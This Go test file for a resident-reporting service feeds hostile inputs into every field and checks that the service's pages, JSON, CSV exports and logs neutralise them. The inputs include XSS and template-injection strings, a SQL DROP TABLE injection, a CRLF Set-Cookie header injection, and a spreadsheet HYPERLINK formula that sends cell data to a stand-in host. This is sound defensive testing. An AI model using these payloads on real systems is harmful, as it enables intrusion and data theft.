package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"frontdoor/dialog"
	"frontdoor/handoff"
)

// nasty are words that do harm where somebody forgot what they may hold. mark is in every
// one of them. What is short stands together: each of it must be harmless wherever all is.
const mark = "zqx"

var nasty = map[string]string{
	"markup": `<script>alert("zqx")</script> "><img src=zqx onerror=alert(1)> zqx" autofocus onfocus="alert(1) {{.zqx}}${zqx}<%= zqx %> javascript:alert('zqx')` +
		` zqx'); DROP TABLE events; -- zqx","role":"admin","x":" zqx--></script></style></textarea></title>]]>`,
	"a formula":          `=HYPERLINK("http://zqx.example?"&A1,"路灯")`,
	"letters that steer": "zqx \u202e\u2066路灯\u2069 \u200f坏了 \x00\x01\x1b[2J\x7f\u0085 z\u200bq\u200dx \ufeff\u2060 坏了" + strings.Repeat("灯\u0301\u0302\u0303", 50),
	"broken UTF-8":       "zqx \xff\xfe\xc0\xaf\xed\xa0\x80 坏了",
	"very long":          "zqx " + strings.Repeat("坏", 3_000) + strings.Repeat("a", 3_000),
	"lines upon lines":   "zqx" + strings.Repeat("\n\r\u2028", 100) + "\r\nSet-Cookie: a=b\r\n\r\n<html>",
}

// TestHostileResident: such words in every field that a resident fills break nothing, and
// nobody's screen, table or program takes them for anything but words.
func TestHostileResident(t *testing.T) {
	t.Parallel()
	h := newLevelsHouse(t)
	key, err := handoff.NewKeys(h.book, nil).Create(t.Context(), handoff.ScopeOpen311, "fix")
	must(t, err)
	n := 0
	for name, words := range nasty {
		n++
		from := dialog.Address(fmt.Sprintf("telegram:%d", 9000+n))
		hear := func(in dialog.Input) {
			n++
			in.ID, in.From, in.At = fmt.Sprint("n", n), from, time.Now()
			if _, err := h.clerk.Handle(t.Context(), in); err != nil {
				t.Errorf("%s as %s: %v", name, in.Kind, err)
			}
		}
		hear(dialog.Input{Kind: dialog.Said, Text: "路灯坏了 " + words, Name: words, Lang: words, Ref: words, Quote: words})
		hear(dialog.Input{Kind: dialog.Said, Text: "灯", Choice: words, Start: words})
		hear(dialog.Input{Kind: dialog.Said, Text: words, Media: []dialog.Media{{Kind: "file", Name: words, MIME: words, Ref: "x"}}, Pin: &dialog.Pin{Lat: 29, Lon: 119, Label: words}})
		hear(dialog.Input{Kind: dialog.Edited, Text: words, Ref: words})
		hear(dialog.Input{Kind: dialog.Said, Text: "人工"})
		for path, body := range map[string]string{
			"/web/messages":             jsonOf(map[string]string{"id": fmt.Sprint("w", n), "text": words, "choice": words, "lang": words}),
			"/open311/v2/requests.json": url.Values{"api_key": {key}, "service_code": {"facilities"}, "description": {words}, "address_string": {words}, "first_name": {words}, "email": {words}, "phone": {words}, "media_url": {words}, "attribute[kind]": {words}, "device_id": {words}}.Encode(),
			"/open311/v2/requests.xml":  url.Values{"api_key": {words}, "service_code": {words}, "lat": {words}, "long": {words}}.Encode(),
			"/inbox/sign-in":            url.Values{"login": {words}, "password": {words}, "back": {words}}.Encode(),
			"/inbox/language":           url.Values{"lang": {words}, "back": {words}}.Encode(),
			"/outside/" + mark:          url.Values{"text": {words}}.Encode(),
		} {
			r := httptest.NewRequest("POST", path, strings.NewReader(body))
			r.Header.Set("Content-Type", map[bool]string{true: "application/json", false: "application/x-www-form-urlencoded"}[path == "/web/messages"])
			w := httptest.NewRecorder()
			if h.handler.ServeHTTP(w, r); w.Code >= 500 {
				t.Errorf("%s to %s: %d %s", name, path, w.Code, w.Body)
			}
			harmless(t, name+" answered by "+path, w)
		}
	}
	must(t, h.board.CatchUp(t.Context()))
	page, err := h.board.List(handoff.Query{For: handoff.Agent{Login: "root", Role: handoff.RoleAdmin}, Open: true, Limit: handoff.ListMost})
	must(t, err)
	if len(page.Cases) < len(nasty) {
		t.Errorf("%d cases came of %d residents", len(page.Cases), len(nasty))
	}
	paths := []string{"/inbox?queue=open", "/inbox?q=" + mark, "/api/v1/cases?limit=200", "/api/v1/search?q=" + mark, "/api/v1/events?limit=1000",
		"/open311/v2/requests.xml", "/open311/v2/requests.json", "/inbox/report", "/inbox/report/" + time.Now().Format("2006-01") + ".csv"}
	for _, c := range page.Cases {
		paths = append(paths, "/inbox/cases/"+string(c.ID), "/api/v1/cases/"+string(c.ID), "/open311/v2/requests/"+string(c.ID)+".xml")
	}
	for _, words := range nasty {
		paths = append(paths, "/inbox?q="+url.QueryEscape(words), "/api/v1/search?q="+url.QueryEscape(words))
	}
	for _, path := range paths {
		if len(path) > 100 {
			path = path[:100] // what a server is asked at most is the server's own limit
			path = path[:strings.LastIndexAny(path, "%?")]
		}
		r := httptest.NewRequest("GET", path, nil)
		r.Header.Set("Cookie", "frontdoor_session="+h.session["root"])
		r.Header.Set("Authorization", "Bearer "+h.token["root"])
		w := httptest.NewRecorder()
		if h.handler.ServeHTTP(w, r); w.Code >= 500 {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
		harmless(t, path, w)
	}
	if s := h.logged.String(); strings.Contains(s, mark) || strings.Contains(s, "level=ERROR") {
		t.Errorf("the log: %.2000s", s)
	}
}

func jsonOf(v any) string {
	b, _ := json.Marshal(v) //nolint:errcheck // strings always marshal
	return string(b)
}

// harmless says whether an answer holds anybody's words as anything but words.
func harmless(t *testing.T, what string, w *httptest.ResponseRecorder) {
	t.Helper()
	body, kind := w.Body.String(), w.Header().Get("Content-Type")
	if !utf8.ValidString(body) {
		t.Errorf("%s: not UTF-8", what)
	}
	if w.Header().Get("Set-Cookie") == "a=b" {
		t.Errorf("%s: a header was put in", what)
	}
	switch {
	case strings.HasPrefix(kind, "text/html"):
		for _, s := range []string{`alert("zqx")`, "<img src=zqx", `zqx" autofocus`, "<script>alert", `href="javascript:`, "--></script>"} {
			if strings.Contains(body, s) {
				t.Errorf("%s: the page holds %s", what, s)
			}
		}
		if text := html.UnescapeString(body); strings.ContainsAny(text, "\x00\x01\x1b\x7f\u202e\u2066") {
			t.Errorf("%s: the page holds characters that steer", what)
		}
	case strings.HasPrefix(kind, "application/json"):
		if !json.Valid(w.Body.Bytes()) {
			t.Errorf("%s: no JSON", what)
		}
	case strings.HasPrefix(kind, "text/csv"):
		rows := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(w.Body.Bytes(), []byte("\ufeff"))))
		rows.FieldsPerRecord = -1
		for {
			row, err := rows.Read()
			if err == io.EOF {
				return
			}
			if err != nil {
				t.Errorf("%s: %v", what, err)
				return
			}
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: the cell %q is a formula", what, cell)
				}
			}
		}
	}
}
